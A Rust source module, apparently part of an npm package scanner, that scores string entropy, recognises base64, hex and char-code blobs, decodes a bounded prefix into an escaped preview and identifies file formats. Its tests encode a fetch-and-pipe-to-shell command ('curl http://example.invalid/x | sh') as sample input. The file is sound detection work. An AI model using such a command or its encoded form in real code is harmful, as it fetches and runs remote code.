//! String entropy and payload shapes: is this string a base64 / hex / char-code blob, and
//! what does it decode to? Decoding is bounded (a prefix only) and the preview is escaped,
//! so evidence can never carry control characters or megabytes.
//!
//! Measured on `npm-app/node_modules` (381 packages): string literals of ≥ 200 characters
//! in the base64 alphabet with entropy ≥ 4.5 bits/byte occur in 3 packages (next, webpack,
//! @mongodb-js/saslprep), and every one decodes to a known binary format (WebAssembly,
//! gzip, a font). Literals of ≥ 50,000 characters occur in 3 packages (next, moment,
//! saslprep). Both rules using these are monitor-level for that reason.

use base64::Engine as _;
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};

/// Minimum length (characters) for a string to be judged by its entropy: shorter strings
/// (hashes, ids, integrity values) are normal everywhere.
pub const HIGH_ENTROPY_MIN_LEN: usize = 200;

/// Bits per byte above which a base64-alphabet string is treated as packed/encrypted.
/// Random base64 approaches 6.0; English prose is ~4.2, identifiers and code ~4.5–5.0.
/// Every benign ≥ 200-char base64 literal measured is ≥ 5.2, so entropy alone cannot clear
/// a blob: the decoded kind (`wasm`, `gzip`, `font`) in the evidence explains it.
pub const BASE64_ENTROPY_MIN: f64 = 5.2;

/// Bits per byte for hex strings (maximum possible is 4.0).
pub const HEX_ENTROPY_MIN: f64 = 3.7;

/// Strings this long (characters) are reported by `long-string`: measured in 3 of 381
/// benign packages at 50,000.
pub const LONG_STRING_MIN_LEN: usize = 50_000;

/// Maximum characters of a decoded preview.
pub const PREVIEW_MAX_CHARS: usize = 120;

/// Input characters decoded for a preview.
const DECODE_PREFIX: usize = 4096;

/// Shannon entropy of the bytes of `s`, in bits per byte (0 for the empty string).
pub fn shannon_entropy(s: &str) -> f64 {
    let bytes = s.as_bytes();
    if bytes.is_empty() {
        return 0.0;
    }
    let mut counts = [0u32; 256];
    for &b in bytes {
        counts[b as usize] += 1;
    }
    #[expect(clippy::cast_precision_loss, reason = "lengths far below 2^52")]
    let n = bytes.len() as f64;
    counts
        .iter()
        .filter(|&&c| c > 0)
        .map(|&c| {
            let p = f64::from(c) / n;
            -p * p.log2()
        })
        .sum()
}

/// The shape of an encoded payload.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum PayloadKind {
    Base64,
    Hex,
    /// Decimal or hex numbers separated by commas/spaces: `104,101,108,108,111`.
    CharCodes,
}

impl PayloadKind {
    pub fn as_str(self) -> &'static str {
        match self {
            PayloadKind::Base64 => "base64",
            PayloadKind::Hex => "hex",
            PayloadKind::CharCodes => "charcodes",
        }
    }
}

/// Classifies a whole string as an encoded payload, or `None` for anything else. Needs at
/// least 16 characters; hex wins over base64 when both alphabets fit.
pub fn classify_payload(s: &str) -> Option<PayloadKind> {
    let s = s.trim();
    if s.len() < 16 {
        return None;
    }
    let b = s.as_bytes();
    if b.len().is_multiple_of(2) && b.iter().all(u8::is_ascii_hexdigit) {
        // Long runs of digits only are numbers, not hex.
        if b.iter().any(|c| c.is_ascii_alphabetic()) {
            return Some(PayloadKind::Hex);
        }
    }
    let body = s.trim_end_matches('=');
    let pad = s.len() - body.len();
    let alphabet = |c: &u8| c.is_ascii_alphanumeric() || matches!(c, b'+' | b'/' | b'-' | b'_');
    if pad <= 2
        && body.as_bytes().iter().all(alphabet)
        && body.len() % 4 != 1
        && body.bytes().any(|c| c.is_ascii_uppercase())
        && body.bytes().any(|c| c.is_ascii_lowercase())
        && body
            .bytes()
            .any(|c| c.is_ascii_digit() || matches!(c, b'+' | b'/'))
    {
        return Some(PayloadKind::Base64);
    }
    if is_char_codes(s) {
        return Some(PayloadKind::CharCodes);
    }
    None
}

fn is_char_codes(s: &str) -> bool {
    let mut n = 0usize;
    for part in s.split([',', ' ']).filter(|p| !p.is_empty()) {
        if parse_code(part).is_none() {
            return false;
        }
        n += 1;
    }
    n >= 8
}

fn parse_code(part: &str) -> Option<u32> {
    let v = if let Some(h) = part.strip_prefix("0x") {
        u32::from_str_radix(h, 16).ok()?
    } else {
        part.parse::<u32>().ok()?
    };
    (v <= 0x10FFFF).then_some(v)
}

/// What a payload decodes to, from a bounded prefix.
#[derive(Debug, Clone, PartialEq)]
pub struct Decoded {
    /// Escaped, printable, at most [`PREVIEW_MAX_CHARS`] characters.
    pub preview: String,
    /// A recognised binary format (`wasm`, `gzip`, `zip`, `png`, `font`, `elf`, `pe`, …).
    pub format: Option<&'static str>,
    /// Fraction of decoded bytes that are printable ASCII (text payloads are ~1.0).
    pub printable: f64,
}

/// Decodes (a prefix of) `s` as `kind` and describes the result.
pub fn decode(kind: PayloadKind, s: &str) -> Option<Decoded> {
    let s = s.trim();
    let bytes = match kind {
        PayloadKind::Base64 => {
            let body = s.trim_end_matches('=');
            let mut prefix = body.get(..body.len().min(DECODE_PREFIX))?;
            if prefix.len() % 4 == 1 {
                prefix = prefix.get(..prefix.len() - 1)?;
            }
            let url_safe = prefix.contains(['-', '_']);
            let prefix = if url_safe {
                prefix.replace('-', "+").replace('_', "/")
            } else {
                prefix.to_string()
            };
            let config = GeneralPurposeConfig::new()
                .with_decode_padding_mode(DecodePaddingMode::Indifferent)
                .with_decode_allow_trailing_bits(true);
            GeneralPurpose::new(&base64::alphabet::STANDARD, config)
                .decode(prefix)
                .ok()?
        }
        PayloadKind::Hex => {
            let cut = s.len().min(DECODE_PREFIX) / 2 * 2;
            hex::decode(s.get(..cut)?).ok()?
        }
        PayloadKind::CharCodes => s
            .split([',', ' '])
            .filter(|p| !p.is_empty())
            .take(DECODE_PREFIX / 2)
            .filter_map(parse_code)
            .map(|v| u8::try_from(v).unwrap_or(b'?'))
            .collect(),
    };
    if bytes.is_empty() {
        return None;
    }
    let printable = bytes
        .iter()
        .filter(|b| b.is_ascii_graphic() || matches!(b, b' ' | b'\n' | b'\t' | b'\r'))
        .count();
    #[expect(clippy::cast_precision_loss, reason = "bounded by DECODE_PREFIX")]
    let printable = printable as f64 / bytes.len() as f64;
    Some(Decoded {
        preview: safe_preview(&bytes),
        format: magic(&bytes),
        printable,
    })
}

/// Printable ASCII kept, everything else escaped (`\n`, `\xNN`), cut to
/// [`PREVIEW_MAX_CHARS`] characters with a trailing `…` when cut.
pub fn safe_preview(bytes: &[u8]) -> String {
    let mut out = String::new();
    let mut chars = 0usize;
    for &b in bytes {
        let piece = match b {
            b'\n' => "\\n".to_string(),
            b'\t' => "\\t".to_string(),
            b'\r' => "\\r".to_string(),
            b'\\' => "\\\\".to_string(),
            b if b.is_ascii_graphic() || b == b' ' => (b as char).to_string(),
            b => format!("\\x{b:02x}"),
        };
        if chars + piece.len() > PREVIEW_MAX_CHARS - 1 {
            out.push('…');
            return out;
        }
        chars += piece.len();
        out.push_str(&piece);
    }
    out
}

/// Recognises common binary formats by their first bytes.
pub fn magic(bytes: &[u8]) -> Option<&'static str> {
    let table: &[(&[u8], &str)] = &[
        (b"\0asm", "wasm"),
        (b"\x1f\x8b", "gzip"),
        (b"PK\x03\x04", "zip"),
        (b"\x89PNG", "png"),
        (b"GIF8", "gif"),
        (b"\xff\xd8\xff", "jpeg"),
        (b"wOFF", "font"),
        (b"wOF2", "font"),
        (b"OTTO", "font"),
        (b"\0\x01\0\0", "font"),
        (b"\x7fELF", "elf"),
        (b"MZ", "pe"),
        (b"\xcf\xfa\xed\xfe", "mach-o"),
        (b"%PDF", "pdf"),
        (b"<svg", "svg"),
        (b"RIFF", "riff"),
    ];
    table
        .iter()
        .find(|(m, _)| bytes.starts_with(m))
        .map(|&(_, name)| name)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn entropy_values() {
        assert!(shannon_entropy("").abs() < f64::EPSILON);
        assert!(shannon_entropy("aaaa").abs() < f64::EPSILON);
        assert!((shannon_entropy("abcd") - 2.0).abs() < 1e-9);
        let b64: String = (0..1024u32)
            .map(|i| {
                let k = (i.wrapping_mul(2_654_435_761) >> 7) % 64;
                b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"[k as usize]
                    as char
            })
            .collect();
        assert!(
            shannon_entropy(&b64) > BASE64_ENTROPY_MIN,
            "{}",
            shannon_entropy(&b64)
        );
        let prose =
            "the quick brown fox jumps over the lazy dog and keeps running far away ".repeat(4);
        assert!(shannon_entropy(&prose) < BASE64_ENTROPY_MIN);
    }

    #[test]
    fn classifies_payload_shapes() {
        assert_eq!(
            classify_payload("Y3VybCBodHRwOi8vZXhhbXBsZS5pbnZhbGlkL3ggfCBzaA=="),
            Some(PayloadKind::Base64)
        );
        assert_eq!(
            classify_payload("6375726c20687474703a2f2f6578616d706c65"),
            Some(PayloadKind::Hex)
        );
        assert_eq!(
            classify_payload("99,117,114,108,32,104,116,116,112"),
            Some(PayloadKind::CharCodes)
        );
        assert_eq!(classify_payload("short"), None);
        assert_eq!(
            classify_payload("this is a sentence with spaces in it"),
            None
        );
        assert_eq!(classify_payload("12345678901234567890"), None);
        assert_eq!(classify_payload("someLongIdentifierName"), None);
    }

    #[test]
    fn decodes_with_safe_preview() {
        let d = decode(
            PayloadKind::Base64,
            "Y3VybCBodHRwOi8vZXhhbXBsZS5pbnZhbGlkL3ggfCBzaA==",
        );
        let d = d.expect("decodes");
        assert_eq!(d.preview, "curl http://example.invalid/x | sh");
        assert!(d.printable > 0.99);
        let h = decode(PayloadKind::Hex, "0061736d01000000").expect("decodes");
        assert_eq!(h.format, Some("wasm"));
        assert_eq!(h.preview, "\\x00asm\\x01\\x00\\x00\\x00");
        let c = decode(PayloadKind::CharCodes, "105,100,10,105,100,10,105,100").expect("decodes");
        assert_eq!(c.preview, "id\\nid\\nid");
    }

    #[test]
    fn preview_is_bounded_and_escaped() {
        let p = safe_preview(&[0x1b; 500]);
        assert!(p.chars().count() <= PREVIEW_MAX_CHARS);
        assert!(p.starts_with("\\x1b") && p.ends_with('…'));
        assert!(!p.contains('\u{1b}'));
    }

    #[test]
    fn garbage_base64_does_not_panic() {
        assert!(decode(PayloadKind::Base64, "A").is_none());
        let _ = decode(
            PayloadKind::Base64,
            "AAAAA-_-_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
        );
        let _ = decode(PayloadKind::Hex, "zz");
    }
}
